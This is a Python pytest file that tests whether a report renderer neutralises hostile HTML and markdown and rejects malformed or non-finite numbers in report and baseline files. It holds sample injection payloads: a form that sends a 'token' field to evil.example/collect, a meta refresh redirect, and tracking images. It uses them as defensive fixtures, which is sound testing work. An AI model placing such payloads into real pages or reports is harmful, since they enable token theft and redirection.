"""Hostile report files given to ``render``, a hostile baseline, absurd prices (issue 49, items 10-13).

A report handed to ``python -m pytest_omk render`` may be a fork's pull-request artifact; a baseline
a committed file. Whatever they hold, ``render`` writes nothing that acts (no working form, meta
refresh, image, mention), a wrong or non-finite value is one usage-error line naming the file and the
field, the counts come from the records, and a run reading such a baseline stops before any call.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from tests.support import FakeCommand, OmkRun, executor_arg, omk_main, sample, write_sample_set

probe = pytest.mark.probe
EVIL = (
    '<form action="https://evil.example/collect"><input name="token"><button>go</button></form>'
    '<meta http-equiv="refresh" content="0;url=https://evil.example">'
    "![pixel](https://evil.example/p.png)<img src=https://evil.example/x.png> @team"
)
CHECK = [{"type": "contains", "value": "fine"}]


@pytest.fixture(scope="module")
def built() -> dict[str, bytes]:
    """The two report files, made once per module by the first test that asks: each test then edits
    its own copy (two pytest runs less per test)."""
    return {}


@pytest.fixture
def reports(
    pytester: pytest.Pytester, omk_run: OmkRun, fake_command: FakeCommand, built: dict[str, bytes]
) -> Path:
    """A run's report against a baseline (so it has the PR section): ``bad`` newly fails."""
    write_sample_set(pytester, sample("ok", "hi", assertions=CHECK), sample("bad", "hi", assertions=CHECK))
    if built:
        for name, data in built.items():
            (pytester.path / name).write_bytes(data)
        return pytester.path
    omk_run(executor_arg(fake_command.script({"ok": {"output": "fine"}, "bad": {"output": "fine"}})),
            "--omk-report=base.json")  # fmt: skip
    omk_run(executor_arg(fake_command.script({"ok": {"output": "fine"}, "bad": {"output": "no"}})),
            "--omk-baseline=base.json", "--omk-report=run.json")  # fmt: skip
    built.update({name: (pytester.path / name).read_bytes() for name in ("base.json", "run.json")})
    return pytester.path


def load(path: Path) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return document


def save(path: Path, document: dict[str, Any]) -> None:
    path.write_text(json.dumps(document), encoding="utf-8")


def render(cwd: Path, report: str) -> Any:
    return omk_main(cwd, "render", report, "--html", "out.html", "--markdown", "out.md")


def refused(done: Any, *words: str) -> None:
    """One usage-error line naming the file and the field; nothing written."""
    assert done.returncode == 4, done.stderr
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr
    for word in words:
        assert word in done.stderr, done.stderr


def inert_markdown(text: str) -> None:
    """Rendered as GitHub would (CommonMark, tables, raw HTML allowed): no HTML, image, link or
    mention comes from the report's text."""
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    inline = [child for token in tokens if token.children for child in token.children]
    kinds = {token.type for token in [*tokens, *inline]}
    raw = [t.content for t in [*tokens, *inline] if t.type in ("html_block", "html_inline")]
    # The summary's own line breaks and the PR section's marker only.
    assert all(part == "<br>" or part.startswith("<!-- pytest-omk:") for part in raw), raw
    assert not kinds & {"image", "link_open"}, kinds
    shown = "".join(child.content for child in inline if child.type == "text")
    assert "evil.example" in shown  # the text is there, as text
    assert "@team" not in shown and "@\u2060team" in shown  # no mention: a word joiner after "@"


@probe("hostile report")
def test_hostile_text_in_a_report_renders_inert(reports: Path) -> None:
    document = load(reports / "run.json")
    bad = next(s for s in document["samples"] if s["sample_id"] == "bad")
    bad["execution"]["output"] = EVIL
    bad["assertions"][0]["message"] = EVIL
    bad["prompt"] = EVIL
    document["config"]["executor"] = EVIL
    document["baseline"]["changed"][0]["nodeid"] = EVIL
    save(reports / "evil.json", document)
    done = render(reports, "evil.json")
    assert done.returncode == 0, done.stderr
    markdown = (reports / "out.md").read_text(encoding="utf-8")
    assert "Against the baseline" in markdown  # the PR section is part of what is checked
    inert_markdown(markdown)
    page = (reports / "out.html").read_text(encoding="utf-8")
    for active in ("<form", "<input name=", 'http-equiv="refresh"', "<img"):
        assert active not in page
    assert "form-action 'none'" in page and "base-uri 'none'" in page


@probe("hostile report")
@pytest.mark.parametrize(
    ("where", "value", "field"),
    [
        (("summary", "samples"), "<img src=https://evil.example/a.png>", "summary.samples"),
        (("baseline", "matched"), "<form action=https://evil.example>", "baseline.matched"),
        (("summary", "outcomes", "passed"), "@team", "summary.outcomes.passed"),
        (("samples", 1, "scores", "composite"), "4.5", "samples[1].scores.composite"),
        (("samples", 0, "line"), "12", "samples[0].line"),
        (("summary",), [], "summary"),
        (("config", "minPassRate"), "1", "config.minPassRate"),
    ],
)
def test_a_value_of_the_wrong_type_is_refused(
    reports: Path, where: tuple[Any, ...], value: Any, field: str
) -> None:
    document = load(reports / "run.json")
    target = document
    for part in where[:-1]:
        target = target[part]
    target[where[-1]] = value
    save(reports / "evil.json", document)
    refused(render(reports, "evil.json"), "evil.json", field)
    assert not (reports / "out.html").exists() and not (reports / "out.md").exists()


@probe("hostile report")
@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_a_non_finite_number_is_refused(reports: Path, number: str) -> None:
    document = load(reports / "run.json")
    document["samples"][0]["scores"]["composite"] = "@@here@@"
    text = json.dumps(document).replace('"@@here@@"', number)  # as Python's json reads it
    (reports / "evil.json").write_text(text, encoding="utf-8")
    refused(render(reports, "evil.json"), "evil.json", "samples[0].scores.composite", "finite")


@probe("hostile report")
def test_counts_come_from_the_records_not_the_summary(reports: Path) -> None:
    document = load(reports / "run.json")
    bad = next(s for s in document["samples"] if s["sample_id"] == "bad")
    bad["outcome"] = "passed"  # over a failed reading
    document["summary"]["outcomes"] = {"passed": 2}
    document["summary"]["means"]["composite"] = 5
    save(reports / "green.json", document)
    done = render(reports, "green.json")
    assert done.returncode == 0, done.stderr
    markdown = (reports / "out.md").read_text(encoding="utf-8")
    assert markdown.startswith("## pytest-omk: 2 samples, 1 failed, 1 passed"), markdown[:200]
    assert "| 3.00 |" in markdown  # the composite mean of 5 and 1
    assert "2 passed" not in (reports / "out.html").read_text(encoding="utf-8")


@probe("hostile report")
def test_merge_and_render_refuse_the_same_file(reports: Path) -> None:
    document = load(reports / "run.json")
    document["samples"][0]["scores"]["composite"] = "5"
    save(reports / "evil.json", document)
    rendered = render(reports, "evil.json")
    merged = omk_main(reports, "merge", "evil.json")
    refused(rendered, "evil.json: samples[0].scores.composite")
    refused(merged, "evil.json: samples[0].scores.composite")


@probe("hostile report")
@pytest.mark.parametrize(("field", "value"), [("scores.composite", "NaN"), ("line", '"seven"')])
def test_a_hostile_carried_record_stops_the_run_before_any_call(
    pytester: pytest.Pytester, omk_run: OmkRun, fake_command: FakeCommand, field: str, value: str
) -> None:
    write_sample_set(pytester, sample("ok", "hi", assertions=CHECK), sample("other", "hi", assertions=CHECK))
    spec = executor_arg(fake_command.script({"ok": {"output": "fine"}, "other": {"output": "fine"}}))
    assert omk_run(spec, "--omk-report=base.json").ret == 0
    document = load(pytester.path / "base.json")
    record = document["samples"][0]
    *parents, last = field.split(".")
    for part in parents:
        record = record[part]
    record[last] = "@@here@@"
    (pytester.path / "base.json").write_text(
        json.dumps(document).replace('"@@here@@"', value), encoding="utf-8"
    )
    for log in fake_command.log_dir.glob("*.json"):
        log.unlink()
    result = omk_run(spec, "--omk-baseline=base.json", "--omk-changed", "--omk-report=new.json")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    err = result.stderr.str()
    assert f"base.json: samples[0].{field}" in err and "Traceback" not in err, err
    assert fake_command.called() == [] and not (pytester.path / "new.json").exists()


@probe("numeric fields")
@pytest.mark.parametrize("line", ["m = 1e30 1", "m = 1 -2", "m = nan 1", "m = 1 inf", "m = 1 1 1e400"])
def test_an_absurd_price_is_a_usage_error_naming_the_line(
    pytester: pytest.Pytester, omk_run: OmkRun, fake_command: FakeCommand, line: str
) -> None:
    pytester.makeini(f"[pytest]\nomk_prices =\n    x = 1 2\n    {line}\n")
    write_sample_set(pytester, sample("ok", "hi", assertions=CHECK))
    result = omk_run(executor_arg(fake_command.script({"ok": {"output": "fine"}})), "--omk-model=m")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    err = result.stderr.str()
    assert "omk_prices, line 2" in err and "Traceback" not in err, err
    assert fake_command.called() == []
